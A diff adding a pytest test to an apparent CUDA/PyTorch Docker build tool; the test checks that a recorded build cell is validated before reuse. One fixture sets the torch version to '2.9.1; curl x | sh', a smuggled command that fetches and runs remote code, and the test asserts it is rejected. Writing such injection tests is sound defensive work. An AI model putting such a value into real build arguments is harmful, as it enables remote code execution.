@@ -8,7 +8,7 @@ from dataclasses import replace
 
 import pytest
 
-from cudastack.host.cells import matrix, stacks
+from cudastack.host.cells import matrix, reproduce, stacks
 from cudastack.host.cells.matrix import MatrixError
 
 DOCKERFILE = matrix.DEFAULT_MATRIX.parent / "Dockerfile"
@@ -297,3 +297,29 @@ def test_the_inputs_hash_follows_its_recipe_so_anyone_can_recompute_a_tag(tmp_pa
     cell.lock_path(tmp_path / "locks").write_bytes(b"torch==2.9.1\n")
     locked = hashlib.sha256(b"FROM scratch\n" + args_json + b"torch==2.9.1\n").hexdigest()
     assert cell.inputs_hash(dockerfile, tmp_path / "locks") == locked
+
+
+def test_a_recorded_cell_is_held_to_the_matrix_checks_before_reproduce_uses_it():
+    cell = {
+        "name": "c1",
+        "base_image": "nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04",
+        "torch": "2.9.1",
+        "index": "cu128",
+        "python": "3.12",
+    }
+    record = {"cell": cell, "tag": "cudastack/c1:0123abcd", "dockerfile": "FROM x\n", "lock": ""}
+    assert reproduce.checked_record(record, "cell.json") is record
+    assert reproduce.cell_from(record).build_args()["TORCH_VERSION"] == "2.9.1"
+    # A record edited since: the command never reaches the Dockerfile's ARG.
+    tampered = {**record, "cell": {**cell, "torch": "2.9.1; curl x | sh"}}
+    with pytest.raises(
+        matrix.MatrixError,
+        match=r"^cell.json: recorded cell: field 'torch' has an invalid value '2.9.1; curl x ",
+    ):
+        reproduce.checked_record(tampered, "cell.json")
+    with pytest.raises(reproduce.ReproduceError, match=r"^cell.json holds no recorded cell"):
+        reproduce.checked_record([cell], "cell.json")
+    with pytest.raises(reproduce.ReproduceError, match=r"the recorded image tag 'a b' is not one"):
+        reproduce.checked_record({**record, "tag": "a b"}, "cell.json")
+    with pytest.raises(reproduce.ReproduceError, match=r"the recorded lock is missing or not text"):
+        reproduce.checked_record({**record, "lock": None}, "cell.json")
